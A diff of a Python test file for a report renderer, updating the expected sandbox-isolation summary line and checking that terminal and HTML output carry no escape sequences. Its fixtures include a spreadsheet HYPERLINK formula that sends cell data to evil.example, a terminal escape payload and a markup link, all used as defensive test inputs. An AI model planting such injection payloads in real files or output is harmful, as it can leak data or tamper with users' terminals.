@@ -288,7 +288,7 @@ def test_report_without_results_is_one_line(tmp_path, make):
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
 ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
 MARKUP = "[link=https://evil.example]x[/link]"
-ISOLATION = {"level": "partial", "mechanisms": {"seccomp": "on"}, "missing": ["landlock"]}
+ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"}, "missing": {"landlock": "the kernel has none"}}
 
 
 def chosen_names() -> list[SubmissionResult]:
@@ -333,7 +333,7 @@ def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
     assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
     text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
     assert MARKUP in text and FORMULA in text and "mallory" in text
-    assert text.rstrip().splitlines()[-1] == "isolation: partial (seccomp on); missing: landlock"
+    assert text.rstrip().splitlines()[-1] == "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
 
 
 def test_the_section_table_shows_names_as_written():
@@ -346,7 +346,7 @@ def test_the_page_holds_no_control_character_and_the_isolation_line():
     html = report.render_html(chosen_names(), [FIRST], isolation=ISOLATION)
     assert not [c for c in html if unicodedata.category(c) == "Cc" and c != "\n"]
     assert "pwned" not in html and "mallory" in html
-    assert '<p class="meta" id="isolation">isolation: partial (seccomp on); missing: landlock</p>' in html
+    assert '<p class="meta" id="isolation">isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)</p>' in html
     assert 'id="isolation"' not in report.render_html(chosen_names(), [FIRST])
 
 
